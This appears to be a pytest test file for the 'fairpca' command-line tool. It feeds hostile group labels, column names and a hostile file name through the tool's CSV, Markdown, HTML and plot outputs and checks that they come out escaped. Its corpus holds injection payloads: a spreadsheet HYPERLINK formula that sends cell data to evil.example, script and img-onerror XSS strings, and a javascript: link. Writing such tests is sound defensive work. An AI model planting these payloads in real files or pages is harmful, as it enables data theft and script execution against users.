"""Hostile text from the user's data through every output of compare and tradeoff.

Group labels, column names and the data file's name are taken from a corpus
of texts that a spreadsheet, a Markdown or HTML renderer or matplotlib would
misread; every file written is then read back in its own language. The runs
are the cheapest that write every file: one fair method, a few hundred rows.
"""

import csv
import os
import re

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

from fairpca._output import CSV_FORMULA_PREFIXES
from fairpca.cli import cli

#: Texts that act as formulas, markup, mathtext or layout when shown unescaped.
CORPUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd",
    "-2",
    "@SUM(A1)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "| a | b |",
    "[x](javascript:alert(1))",
    "**bold**",
    "a\nb",
    "c\rd",
    r"$\frac{x}{$",
    "$x$",
    "a\x00b",
    "\u202eevil",
    "L" * 10_000,
]

#: The data file's name: not valid UTF-8 (Python holds the byte as a lone surrogate).
FILE_NAME = os.fsdecode(b"=data-\xff<script>.csv")


def _hostile_data(folder, labels, n_features):
    """A CSV whose group labels and column names come from the corpus."""
    rng = np.random.default_rng(0)
    n = 40 * len(labels)
    columns = [f"{CORPUS[j % len(CORPUS)]}#{j}" for j in range(n_features)]
    frame = pd.DataFrame(rng.normal(size=(n, n_features)), columns=columns)
    frame["group"] = [labels[i % len(labels)] for i in range(n)]
    path = folder / FILE_NAME
    # Every field quoted: a carriage return inside a label stays in its cell.
    frame.to_csv(path, index=False, quoting=csv.QUOTE_ALL, encoding="utf-8")
    return path


def test_the_csv_reader_carries_nul_and_carriage_returns(tmp_path):
    frame = pd.read_csv(_hostile_data(tmp_path, CORPUS, 3))
    assert set(frame["group"]) == set(CORPUS)
    assert list(frame.columns[:3]) == [f"{CORPUS[j]}#{j}" for j in range(3)]


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def _check_csv(path):
    with open(path, newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert len({len(row) for row in rows}) == 1, f"{path.name}: a cell split its row"
    for row in rows:
        for cell in row:
            if cell.startswith(CSV_FORMULA_PREFIXES):
                assert _is_number(cell), f"{path.name}: formula cell {cell[:40]!r}"


def _unescaped_pipes(line):
    return len(re.findall(r"(?<!\\)\|", line))


def _check_markup(path):
    text = path.read_text(encoding="utf-8")
    assert "<script" not in text and "<img src=x" not in text, path.name
    assert "\u202e" not in text and "\x00" not in text, path.name
    if path.suffix == ".md":
        rows = [line for line in text.splitlines() if line.startswith("|")]
        assert rows and len({_unescaped_pipes(line) for line in rows}) == 1, path.name
        assert not re.search(r"(?<!\\)\]\(javascript:", text)
    else:
        # The only images are the embedded plots.
        assert all(
            tag.startswith('<img alt="') and 'src="data:image/png;base64,' in tag
            for tag in re.findall(r"<img[^>]*>", text)
        )


def _check_every_file(out, expected):
    assert sorted(p.name for p in out.iterdir()) == sorted(expected)
    for path in out.iterdir():
        if path.suffix == ".csv":
            _check_csv(path)
        elif path.suffix in (".md", ".html"):
            _check_markup(path)
        elif path.suffix == ".png":
            assert path.read_bytes().startswith(b"\x89PNG\r\n\x1a\n"), path.name
        elif path.suffix == ".svg":
            assert path.stat().st_size > 0
        else:
            raise AssertionError(f"unchecked output {path.name}")
    # Nothing beside the folder: no staging folder, no lock.
    assert [p.name for p in out.parent.iterdir() if p.name.startswith(".")] == []


#: The group labels of each run: the whole corpus, three at a time (a run's cost grows
#: with the square of its number of groups: the separability metric compares pairs).
CHUNKS = [CORPUS[i : i + 3] for i in range(0, len(CORPUS), 3)]


# compare evaluates every metric and refits at other d: 1.5-3.5 s a run. One run stays
# in the fast loop; tradeoff (0.5 s a run) takes every chunk there.
@pytest.mark.parametrize(
    "labels",
    [pytest.param(c, marks=[] if i == 3 else pytest.mark.slow) for i, c in enumerate(CHUNKS)],
    ids=range(len(CHUNKS)),
)
def test_compare_writes_hostile_text_safely(tmp_path, labels):
    data = _hostile_data(tmp_path, labels, n_features=len(labels) + 2)
    out = tmp_path / "out"
    args = ["compare", "--data", str(data), "--sensitive", "group", "-d", "1"]
    args += ["--methods", "MeanMatchingFairPCA", "--output", str(out)]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    expected = ["comparison.csv", "comparison.md", "group_errors_by_d.csv", "report.html"]
    expected += ["group_losses.csv"]
    expected += ["tradeoff.png", "group_errors.png", "group_errors_by_d.png", "communality.png"]
    _check_every_file(out, expected)
    markdown = (out / "comparison.md").read_text(encoding="utf-8")
    assert "\\\\udcff" in markdown  # the file name's undecodable byte, shown
    with open(out / "group_errors_by_d.csv", newline="", encoding="utf-8") as file:
        groups = {row["group"] for row in csv.DictReader(file)}
    # Every label is in the file as it is, a formula with the quote that neutralises it.
    assert groups == {"'" + g if g.startswith(CSV_FORMULA_PREFIXES) else g for g in labels}
    with open(out / "group_losses.csv", newline="", encoding="utf-8") as file:
        assert {row["group"] for row in csv.DictReader(file)} == groups


@pytest.mark.parametrize("labels", CHUNKS, ids=range(len(CHUNKS)))
def test_tradeoff_writes_hostile_text_safely(tmp_path, labels):
    data = _hostile_data(tmp_path, labels, n_features=len(labels) + 2)
    out = tmp_path / "out"
    args = ["tradeoff", "--data", str(data), "--sensitive", "group", "-d", "1"]
    args += ["--methods", "MeanMatchingFairPCA", "--n-bootstrap", "3"]
    args += ["--metric", "reconstruction_error_gap", "--output", str(out)]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    expected = ["tradeoff.csv", "group_losses.csv", "tradeoff.png", "tradeoff.svg", "report.html"]
    _check_every_file(out, expected)


@pytest.mark.slow
def test_hostile_column_names_reach_the_biplot(tmp_path):
    """d = 2: the biplot draws every feature's name (mathtext, 10,000 characters)."""
    data = _hostile_data(tmp_path, ["a", "b"], n_features=len(CORPUS))
    out = tmp_path / "out"
    args = ["compare", "--data", str(data), "--sensitive", "group", "-d", "2"]
    args += ["--methods", "MeanMatchingFairPCA", "--output", str(out)]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    assert (out / "biplot.png").read_bytes().startswith(b"\x89PNG")
    _check_csv(out / "comparison.csv")
    _check_markup(out / "comparison.md")
    _check_markup(out / "report.html")
